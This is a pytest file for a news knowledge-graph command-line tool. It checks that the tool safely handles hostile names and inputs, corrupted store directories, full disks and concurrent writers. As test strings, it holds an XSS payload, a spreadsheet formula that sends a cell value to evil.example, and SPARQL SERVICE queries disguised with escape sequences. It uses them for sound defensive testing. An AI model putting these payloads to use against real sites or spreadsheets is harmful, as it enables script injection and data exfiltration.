"""Hostile input on the side of the store: refused in one line, or harmless."""

from __future__ import annotations

import csv
import html.parser
import io
import shutil
import subprocess
from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import RunKg, command, environment
from handmade import make_reading
from pyoxigraph import RdfFormat, parse

from kg.records import Reading, write_record

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Solvind")'


def seam(path: Path, *readings: Reading) -> Path:
    """A file of seam records, as ``kg read`` writes them: building needs no model."""
    lines = [write_record(record) for reading in readings for record in reading.records()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def renamed(reading: Reading, old: str, new: str) -> Reading:
    """A reading in which a name is another, in text, mentions and statements.

    The name stands at the end of the text too, where the offsets of the others do not move.
    """
    text = reading.article.text + new
    start = len(reading.article.text)
    span = (start, start + len(new))
    at = next((m.start, m.end) for m in reading.mentions if m.text == old)
    mentions = tuple(
        replace(m, start=span[0], end=span[1], text=new) if (m.start, m.end) == at else m
        for m in reading.mentions
    )

    def moved(statement: object) -> object:
        for name in ("subject", "object"):
            phrase = getattr(statement, name)
            if phrase and phrase.mention == at:
                phrase = replace(phrase, text=new, start=span[0], end=span[1], mention=span)
                statement = replace(statement, **{name: phrase})  # type: ignore[type-var]
        return statement

    statements = tuple(map(moved, reading.statements))
    article = replace(reading.article, text=text)
    return replace(reading, article=article, mentions=mentions, statements=statements)  # type: ignore[arg-type]


def hostile_reading(text: str) -> Reading:
    """A reading whose headline, outlet, and one acting alliance are the given text."""
    reading = renamed(make_reading("hostile"), "Bündnis", text)
    named = tuple(replace(m, named=True) for m in reading.mentions)
    article = replace(reading.article, title=text, publisher=text)
    return replace(reading, article=article, mentions=named)


@pytest.fixture
def build(run_kg: RunKg, tmp_path: Path) -> Iterator[object]:
    def make(*readings: Reading) -> Path:
        ran = run_kg("build", seam(tmp_path / "in.jsonl", *readings), "--store", "s", "--quiet")
        assert ran.code == 0, ran.err
        return tmp_path / "s"

    return make  # type: ignore[return-value]


def one_line(err: str) -> str:
    assert err.startswith("kg: "), err
    assert err.count("\n") == 1, err
    return err


# --- markup and formulas in names -------------------------------------------------------------


class Page(html.parser.HTMLParser):
    """The elements of a page and the text of its scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_a_script_in_headline_and_name_stays_text(build, run_kg: RunKg, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    store = build(hostile_reading(SCRIPT))
    harmless = build_page(run_kg, tmp_path, store)
    assert "alert(1)" in harmless, "the name is on the page"
    assert "<script>alert" not in harmless
    assert "<img src=x" not in harmless
    page = Page(harmless)
    assert not [tag for tag, given in page.tags if "onerror" in given]
    assert not [given for tag, given in page.tags if tag == "img" and given.get("src") == "x"]


def build_page(run_kg: RunKg, tmp_path: Path, store: Path) -> str:
    ran = run_kg("network", "--store", store, "--html", "page.html", "--title", SCRIPT)
    assert ran.code == 0, ran.err
    return (tmp_path / "page.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("format", "kind"), [("turtle", RdfFormat.TURTLE), ("jsonld", RdfFormat.JSON_LD)]
)
@pytest.mark.parametrize("text", [SCRIPT, FORMULA, 'a"""b\\" . <x:y> <x:y> <x:y> .'])
def test_hostile_text_comes_back_as_one_literal(  # type: ignore[no-untyped-def]
    build, run_kg: RunKg, format: str, kind: RdfFormat, text: str
) -> None:
    store = build(hostile_reading(text))
    ran = run_kg("export", "--store", store, "--format", format)
    assert ran.code == 0
    triples = list(parse(ran.out.encode(), format=kind))
    headlines = [t.object.value for t in triples if t.predicate.value.endswith("/headline")]  # type: ignore[union-attr]
    assert headlines == [text]
    assert not [t for t in triples if t.predicate.value.startswith("x:")]


def test_a_formula_in_a_name_is_text_in_every_spreadsheet(build, run_kg: RunKg) -> None:  # type: ignore[no-untyped-def]
    store = build(hostile_reading(FORMULA))
    select = "SELECT ?h { ?a schema:headline ?h } "
    tables = [
        run_kg("query", select, "--store", store, "--format", "csv").out,
        run_kg("network", "--store", store, "--format", "csv").out,
        run_kg("query", "--ask", "edges", "--store", store, "--format", "csv").out,
    ]
    found = [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row]
    assert [cell for cell in found if "HYPERLINK" in cell], "the name is in the tables"
    assert not [cell for cell in found if cell.startswith(("=", "+", "@", "\t", "\r"))]


# --- queries that would reach outside -----------------------------------------------------


@pytest.mark.parametrize(
    "sparql",
    [
        "SELECT * { \\u0053ERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
        "SELECT * { S\\U00000045RVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
        "SELECT * { sErViCe\\u0020SILENT <http://127.0.0.1:9/> { ?s ?p ?o } }",
        "SELECT * { # \\u000A SERVICE <http://127.0.0.1:9/> { ?s ?p ?o }\n ?a ?b ?c }",
        "LOA\\u0044 <http://127.0.0.1:9/>",
    ],
)
def test_a_service_spelled_with_escapes_is_refused(build, run_kg: RunKg, sparql: str) -> None:  # type: ignore[no-untyped-def]
    store = build(make_reading())
    ran = run_kg("query", "--store", store, "-", stdin=sparql.encode())
    assert (ran.code, ran.out) == (1, "")
    assert "refused" in one_line(ran.err)


# --- too large, not text ------------------------------------------------------------------


def test_a_literal_of_ten_megabytes_is_kept_whole(build, run_kg: RunKg, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    long = "ä" * 5_000_000
    reading = make_reading()
    store = build(replace(reading, article=replace(reading.article, title=long)))
    ran = run_kg("query", "SELECT (STRLEN(?h) AS ?n) { ?a schema:headline ?h }", "--store", store)
    assert (ran.code, ran.out.split()[-1]) == (0, "5000000")
    select = "SELECT ?h { ?a schema:headline ?h }"
    ran = run_kg("query", select, "--store", store, "--format", "json")
    assert ran.code == 0
    assert long in ran.out
    ran = run_kg("query", select, "--store", store, "--format", "table")
    assert (ran.code, ran.out) == (1, "")
    assert "too long for table; take json" in one_line(ran.err)


@pytest.mark.parametrize(
    "line",
    [
        b'{"type": "mention", "article": "hand", "start": 0, "end": 1, "text": "\xff\xfe"}',
        b"\xc3\x28\xa0\xa1",
        b'{"type": "mention", "article": "hand", "start": 0, "end": 1, "text": "\\ud800"}',
        b"\x00" * 1000,
        b"[" * 100_000,
        b'{"type": "mention", "article": "hand", "start": 1e999}',
        b'{"type": "mention", "article": "bad"',
    ],
    ids=["bytes", "broken", "surrogate", "zeros", "deep", "infinite", "cut"],
)
def test_a_broken_line_costs_its_article_only(  # type: ignore[no-untyped-def]
    run_kg: RunKg, tmp_path: Path, line: bytes
) -> None:
    path = seam(tmp_path / "in.jsonl", make_reading("bad"))
    good = seam(tmp_path / "good.jsonl", make_reading("good"))
    path.write_bytes(path.read_bytes() + line + b"\n" + good.read_bytes())
    ran = run_kg("build", path, "--store", "s")
    assert ran.code == 3, ran.err
    assert "in.jsonl:" in ran.err
    assert all(text.startswith("kg: ") for text in ran.err.splitlines())
    ran = run_kg("query", "SELECT ?a { ?a a kg:Article }", "--store", "s", "--format", "csv")
    assert ran.out.splitlines()[1:] == ["https://w3id.org/newskg/article/good"]


# --- a store directory with something else in it ------------------------------------------


def in_engine(store: Path, pattern: str) -> list[Path]:
    return sorted((store / "oxigraph").glob(pattern))


def scribble(path: Path) -> None:
    """Other bytes in place of a file's, the same number."""
    size = max(path.stat().st_size, 16)
    path.write_bytes(bytes((at * 7919 + 13) % 251 for at in range(size)))


def harm(store: Path, kind: str) -> None:
    engine = store / "oxigraph"
    if kind in ("CURRENT", "MANIFEST-*", "*.sst"):
        paths = in_engine(store, kind)
        assert paths, kind
        for path in paths:
            scribble(path)
    elif kind == "CURRENT gone":
        (engine / "CURRENT").unlink()
    elif kind == "no engine":
        shutil.rmtree(engine)
    elif kind == "a file as engine":
        shutil.rmtree(engine)
        engine.write_text("in the way")
    elif kind == "a directory as store.json":
        (store / "store.json").unlink()
        (store / "store.json").mkdir()
    else:
        (store / "store.json").write_bytes(kind.encode("latin-1"))


HARMS = [
    "CURRENT",
    "CURRENT gone",
    "MANIFEST-*",
    "*.sst",
    "no engine",
    "a file as engine",
    "a directory as store.json",
    '{"format": 99}',
    '{"format": ',
    '{"format": "1"}',
    "\xff\xfe{}",
    "[" * 100_000,
]
IDS = [kind[:20].encode("ascii", "replace").decode() for kind in HARMS]


@pytest.mark.parametrize("kind", HARMS, ids=IDS)
def test_a_broken_store_gets_one_line(  # type: ignore[no-untyped-def]
    build, run_kg: RunKg, tmp_path: Path, kind: str
) -> None:
    store = build(make_reading())
    harm(store, kind)
    for arguments in (
        ("query", "SELECT * { ?s ?p ?o }"),
        ("export",),
        ("network",),
        ("explain", "Nathan Sales"),
        ("validate",),
        ("check-store",),
    ):
        ran = run_kg(*arguments, "--store", store)
        assert (ran.code, ran.out) == (1, ""), (arguments, ran)
        assert str(store) in one_line(ran.err)


@pytest.mark.parametrize("kind", [k for k in HARMS if k != "no engine"], ids=lambda k: k[:20])
def test_a_build_into_a_broken_store_gets_one_line(  # type: ignore[no-untyped-def]
    build, run_kg: RunKg, tmp_path: Path, kind: str
) -> None:
    store = build(make_reading())
    harm(store, kind)
    other = seam(tmp_path / "other.jsonl", make_reading("other"))
    ran = run_kg("build", other, "--store", store, "--quiet")
    assert ran.code == 1, ran
    assert str(store) in one_line(ran.err)


def test_a_newer_store_is_left_alone(build, run_kg: RunKg) -> None:  # type: ignore[no-untyped-def]
    store = build(make_reading())
    (store / "store.json").write_text('{"format": 99}')
    ran = run_kg("query", "ASK {}", "--store", store)
    assert ran.code == 1
    assert "newer" in one_line(ran.err)
    assert "install a newer newskg" in ran.err


# --- a disk that is full ------------------------------------------------------------------


@pytest.mark.parametrize("format", ["turtle", "trig", "nquads", "ntriples", "jsonld", "xml"])
def test_an_export_to_a_full_disk_says_so(build, run_kg: RunKg, format: str) -> None:  # type: ignore[no-untyped-def]
    store = build(make_reading())
    ran = run_kg("export", "--store", store, "--format", format, "--to", "/dev/full")
    assert (ran.code, ran.out) == (1, "")
    assert "space" in one_line(ran.err)


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A disk of half a megabyte; skipped where none can be mounted."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mount = ["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(disk)]
    try:
        done = subprocess.run(mount, capture_output=True, check=False)
    except OSError:
        pytest.skip("no mount command here")
    if done.returncode:
        pytest.skip("mounting a small disk is not allowed here")
    yield disk
    subprocess.run(["umount", str(disk)], check=True)


def test_a_build_on_a_full_disk_says_so(small_disk: Path, run_kg: RunKg, tmp_path: Path) -> None:
    readings = [make_reading(f"a{number}") for number in range(60)]
    ran = run_kg("build", seam(tmp_path / "in.jsonl", *readings), "--store", small_disk / "s")
    assert ran.code == 1
    assert "full" in one_line(ran.err)


# --- several processes --------------------------------------------------------------------


@pytest.fixture
def writer(tmp_path: Path) -> Iterator[subprocess.Popen[bytes]]:
    """A process of its own in the midst of a build: it waits for the next article."""
    process = subprocess.Popen(
        command("build", "-", "--store", "s", "--quiet"),
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=tmp_path,
        env=environment(),
    )
    yield process
    process.kill()
    process.wait()
    for stream in (process.stdin, process.stderr):
        assert stream
        stream.close()


def feed(process: subprocess.Popen[bytes], readings: Iterable[Reading]) -> None:
    assert process.stdin
    for reading in readings:
        for record in reading.records():
            process.stdin.write((write_record(record) + "\n").encode())
    process.stdin.flush()


ARTICLES = "SELECT (COUNT(DISTINCT ?a) AS ?n) { ?a a kg:Article }"


def count_articles(run_kg: RunKg) -> int:
    ran = run_kg("query", ARTICLES, "--store", "s", "--format", "csv")
    return int(ran.out.split()[1]) if ran.code == 0 else -1


def test_reading_goes_on_while_another_process_writes(
    writer: subprocess.Popen[bytes], run_kg: RunKg, tmp_path: Path
) -> None:
    feed(writer, (make_reading(f"a{number}") for number in range(30)))
    counts: list[int] = []
    while not counts or counts[-1] < 1:
        assert writer.poll() is None, writer.stderr and writer.stderr.read()
        assert len(counts) < 200, "the writer never gets going"
        counts.append(count_articles(run_kg))
    other = seam(tmp_path / "other.jsonl", make_reading("other"))
    ran = run_kg("build", other, "--store", "s")
    assert ran.code == 1
    assert "another process is writing this store" in one_line(ran.err)
    feed(writer, (make_reading(f"b{number}") for number in range(30)))
    counts.append(count_articles(run_kg))
    assert writer.stdin
    writer.stdin.close()
    assert writer.wait(timeout=120) == 0
    counts.append(count_articles(run_kg))
    assert counts == sorted(counts)
    assert counts[-1] == 60
    assert run_kg("build", other, "--store", "s").code == 0
